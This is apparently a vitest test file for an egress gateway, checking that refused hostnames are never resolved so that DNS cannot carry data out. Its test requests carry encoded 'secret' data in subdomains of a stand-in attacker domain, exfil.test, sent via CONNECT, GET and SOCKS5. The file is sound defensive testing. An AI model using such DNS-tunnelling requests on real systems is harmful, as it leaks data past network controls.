/**
 * In enforce mode a name no allow entry can admit is refused without being looked up. Before, the
 * gateway resolved every name and then decided, so a client could tunnel data out through the
 * gateway's own resolver: `CONNECT c2VjcmV0.exfil.test:443` got 403, but its DNS query had already
 * carried `c2VjcmV0` to the attacker's name server (the lockdown lets the gateway's lookups out).
 *
 * `egressgate serve` runs with its own /etc/resolv.conf (a mount namespace, as root) naming a DNS
 * server on loopback that records every name asked (test/helpers/zone-dns.ts, its zone empty: it
 * answers NXDOMAIN).
 */
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SocksClient } from 'socks';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canUnshareMounts, killIfRunning, type Served, spawnServe, withResolvConf } from '../helpers/serve-process.ts';
import { skipNotice } from '../helpers/skip-notice.ts';
import { startZoneDns, type ZoneDns } from '../helpers/zone-dns.ts';
import { rawExchange, readUntil } from './http-harness.ts';

/** Its DNS server's address when free (test/helpers/zone-dns.ts picks another when it is not). */
const RECORDING_DNS = '127.0.0.154';

const isAvailable = skipNotice(canUnshareMounts(), 'dns-refused-names', 'needs root and unshare -m (a mount namespace for its own /etc/resolv.conf)');

let dir: string;
let dns: ZoneDns | undefined;
let gw: Served | null = null;

beforeAll(async () => {
  if (!isAvailable) return;
  dir = mkdtempSync(join(tmpdir(), 'egw-dnsx-'));
  dns = await startZoneDns(RECORDING_DNS, {});
  const resolv = join(dir, 'resolv.conf');
  writeFileSync(resolv, `nameserver ${dns.address}\noptions timeout:1 attempts:1\n`);
  const config = join(dir, 'policy.yaml');
  // Names only: no role has CIDR entries, so whatever a refused name resolves to cannot matter.
  writeFileSync(config, ['mode: enforce', 'roles: { web: { allow: [ { host: "*.allowed.test", ports: [443, 80] } ] } }', 'defaultRoles: [web]', 'flowLog: { path: null }', ''].join('\n'));
  gw = await spawnServe(config, {
    env: { EGRESSGATE_ADMIN_TOKEN: 'dns-refused-names-token-0123456789' },
    wrap: withResolvConf(resolv),
  });
});

afterAll(async () => {
  await killIfRunning(gw?.child ?? null);
  if (isAvailable) {
    await dns?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  }
});

async function connectStatus(target: string): Promise<string> {
  const s = connect({ port: (gw as Served).http.port, host: '127.0.0.1' });
  s.on('error', () => undefined);
  await once(s, 'connect');
  s.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`);
  const head = (await readUntil(s, '\r\n\r\n', 10_000)).toString('latin1');
  s.destroy();
  return head.split('\r\n')[0] as string;
}

describe('names no allow entry admits are never looked up (enforce)', () => {
  it.runIf(isAvailable)('CONNECT, absolute-URI and SOCKS5 by name: refused, and the DNS server never hears the names', async () => {
    expect(await connectStatus('c2VjcmV0LXBhc3N3b3Jk.exfil.test:443')).toMatch(/^HTTP\/1\.1 403 /);
    const { response } = await rawExchange((gw as Served).http.port, 'GET http://74686520626f6f6b73.exfil.test/ HTTP/1.1\r\nHost: 74686520626f6f6b73.exfil.test\r\nConnection: close\r\n\r\n');
    expect(response).toMatch(/^HTTP\/1\.1 403 /);
    expect(response).toContain('not-allowlisted');
    const [socksHost, socksPort] = (gw as Served).socks.split(':');
    await expect(
      SocksClient.createConnection({
        proxy: { host: socksHost as string, port: Number(socksPort), type: 5 },
        command: 'connect',
        destination: { host: 'chunk3-deadbeef.exfil.test', port: 443 },
        timeout: 10_000,
      }),
    ).rejects.toThrow(/NotAllowed/);
    // An allowed name is looked up (here it does not exist: 502), which shows the server does hear lookups.
    expect(await connectStatus('www.allowed.test:443')).toMatch(/^HTTP\/1\.1 502 /);
    // Asked as "name A" / "name AAAA".
    const asked = (dns as ZoneDns).asked.map((q) => q.split(' ')[0] ?? q);
    expect(asked).toContain('www.allowed.test');
    expect(asked.filter((n) => n.endsWith('exfil.test'))).toEqual([]);
  }, 30_000);
});
